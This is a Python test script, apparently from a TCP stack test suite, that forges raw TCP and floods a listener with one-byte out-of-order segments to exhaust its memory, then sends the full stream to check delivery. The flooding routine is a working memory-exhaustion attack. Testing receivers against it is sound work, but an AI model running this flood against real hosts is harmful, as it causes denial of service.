#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""ooo_flood.py: pin a receiver's memory with tiny out-of-order segments.

The attack of issue 9 item 5: a peer opens connections to a listener and
sends each of them SEGS one-byte segments out of order (the bytes at
offsets 2, 4, 6, ... of its stream, STRIDE apart, the first two bytes
never sent), so that none can be delivered and none can be merged with
another. A receiver that keeps every such segment spends a whole sk_buff
(hundreds of bytes) on each byte.

Then, told to by a line on stdin, the peer behaves: it sends the whole
stream, LEN bytes, in order (what the receiver dropped is sent again,
as a TCP sender would after an RTO) and a FIN, and prints
"sent bytes=LEN sha256=H" for the receiver's "recv" to be checked against.

Like peer.py, it speaks TCP through a packet socket: its namespace must
not hold ADDR, and the receiver needs a static neighbour entry for it.
The SYN offers MSS 1000 and SACK, no window scale or timestamps.

Usage: ooo_flood.py DEV SERVER_MAC ADDR SERVER_ADDR PORT CONNS SEGS [STRIDE]

Prints "connected N" once the handshakes are done, "flooded N" after the
segments went out (then reads a line), and at the end "sent ..." and
"acked K/N": the connections whose FIN the receiver acknowledged. Then it
acknowledges the receiver's FINs until it reads another line.
"""
import hashlib
import os
import select
import socket
import struct
import sys
import time

from craft import csum, tcp_segment
import pcap

ETH_P_IP = 0x0800
PACKET_OUTGOING = 4
MOD = 1 << 32
ISS = 9000
SPORT = 41000
MSS = 1000
VERBOSE = os.environ.get('FLOOD_VERBOSE')
SYN_OPTS = bytes([2, 4, MSS >> 8, MSS & 0xff, 1, 1, 4, 2])


def stream(n):
    return bytes((i * 7 + 3) & 0xff for i in range(n))


class Flood:
    def __init__(self, dev, mac, addr, srv, port):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                                  socket.htons(ETH_P_IP))
        self.sock.bind((dev, ETH_P_IP))
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
        self.eth = (bytes.fromhex(mac.replace(':', '')) +
                    self.sock.getsockname()[4] + struct.pack('!H', ETH_P_IP))
        self.addr, self.srv, self.port = addr, srv, port
        self.irs = {}       # sport -> the server's ISN
        self.una = {}       # sport -> the server's latest ACK, as an offset
        self.acks = 0       # segments from the server
        self.fins = {}      # sport -> sequence number after the server's FIN

    def send(self, sport, off, flags, data=b'', opts=b'', ack=None):
        irs = self.irs.get(sport)
        if ack is None:
            ack = (irs + 1) % MOD if irs is not None else 0
        seq = (ISS + (off + 1 if flags != 'S' else 0)) % MOD
        seg = tcp_segment(self.addr, self.srv, sport, self.port, seq, ack,
                          flags, 65535, opts, data)
        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(seg), 0, 0x4000,
                         64, 6, 0, socket.inet_aton(self.addr),
                         socket.inet_aton(self.srv))
        ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
        self.sock.send(self.eth + ip + seg)

    def poll(self, timeout):
        """Read what the server sent for TIMEOUT s; note SYN-ACKs and ACKs."""
        end = time.monotonic() + timeout
        while True:
            left = end - time.monotonic()
            if left <= 0 or not select.select([self.sock], [], [], left)[0]:
                return
            frame, where = self.sock.recvfrom(65535)
            got = where[2] != PACKET_OUTGOING and \
                pcap.ip_tcp(ETH_P_IP, frame[14:])
            if not got or got[:2] != (self.srv, self.addr) or \
               len(got[3]) < 20:
                continue
            sport, dport, seq, ack, _, bits = \
                struct.unpack('!HHIIBB', got[3][:14])
            if sport != self.port:
                continue
            self.acks += 1
            if VERBOSE:
                print('# %s seq=%u ack=%u' % (pcap.flags(bits), seq, ack))
            if bits & 0x12 == 0x12 and dport not in self.irs:
                self.irs[dport] = seq
            if bits & 0x01 and dport in self.irs:
                self.fins[dport] = (seq + len(got[3]) -
                                    (got[3][12] >> 4) * 4 + 1) % MOD
            if bits & 0x10 and dport in self.irs:
                off = (ack - ISS - 1) % MOD
                if off < 1 << 30 and off > self.una.get(dport, -1):
                    self.una[dport] = off

    def connect(self, sport):
        for _ in range(5):
            self.send(sport, 0, 'S', opts=SYN_OPTS)
            self.poll(1.0)
            if sport in self.irs:
                self.send(sport, 0, 'A')
                return True
        return False


def main():
    if len(sys.argv) not in (8, 9):
        sys.exit(__doc__)
    sys.stdout.reconfigure(line_buffering=True)
    dev, mac, addr, srv, port, conns, segs = sys.argv[1:8]
    stride = int(sys.argv[8]) if len(sys.argv) == 9 else 2
    conns, segs = int(conns), int(segs)
    f = Flood(dev, mac, addr, srv, int(port))
    sports = [SPORT + i for i in range(conns)]
    up = [s for s in sports if f.connect(s)]
    print('connected', len(up))
    length = stride * (segs + 1)
    data = stream(length)
    # The receiver answers each segment with an ACK: keep at most WND
    # segments unanswered, so that none is lost on the way for want of
    # time to process it (the receiver's backlog is 1000 packets), yet go
    # on if it stays silent (a receiver may drop without answering).
    t0 = time.monotonic()
    sent, wnd = 0, 400
    for s in up:
        for k in range(1, segs + 1):
            off = stride * k
            f.send(s, off, 'A', data[off:off + 1])
            sent += 1
            if sent - f.acks > wnd:
                got = f.acks
                f.poll(0)
                while sent - f.acks > wnd // 2:
                    f.poll(0.005)
                    if f.acks == got:
                        break
                    got = f.acks
    f.poll(0.5)
    t = time.monotonic() - t0
    print('# %d segments in %.1f s, %d per second, %d answers' % (
        sent, t, sent / max(t, 0.001), f.acks))
    print('flooded', len(up))
    sys.stdin.readline()

    # Behave: the stream in order, again from the latest ACK until the
    # FIN is acknowledged (or 60 s pass).
    f.una = {}
    end = time.monotonic() + 60
    while time.monotonic() < end:
        left = [s for s in up if f.una.get(s, -1) < length + 1]
        if not left:
            break
        for s in left:
            off = max(f.una.get(s, 0), 0)
            burst = 0
            while off < length and burst < 16:
                chunk = data[off:off + MSS]
                f.send(s, off, 'PA' if off + len(chunk) < length else 'FPA',
                       chunk)
                off += len(chunk)
                burst += 1
            if off >= length and burst == 0:
                f.send(s, length, 'FA')
        f.poll(0.3)
    print('sent bytes=%d sha256=%s' % (length,
                                       hashlib.sha256(data).hexdigest()))
    print('# acked up to', ' '.join(str(f.una.get(s, -1)) for s in up))
    print('acked %d/%d' % (sum(f.una.get(s, -1) >= length + 1 for s in up),
                           len(up)))

    # Until told to stop: acknowledge the server's FINs, so that its ends
    # close rather than retransmit to nobody.
    acked = {}
    while not select.select([sys.stdin], [], [], 0)[0]:
        f.poll(0.2)
        for s, fin in f.fins.items():
            if acked.get(s) != fin:
                f.send(s, length + 1, 'A', ack=fin)
                acked[s] = fin


if __name__ == '__main__':
    main()
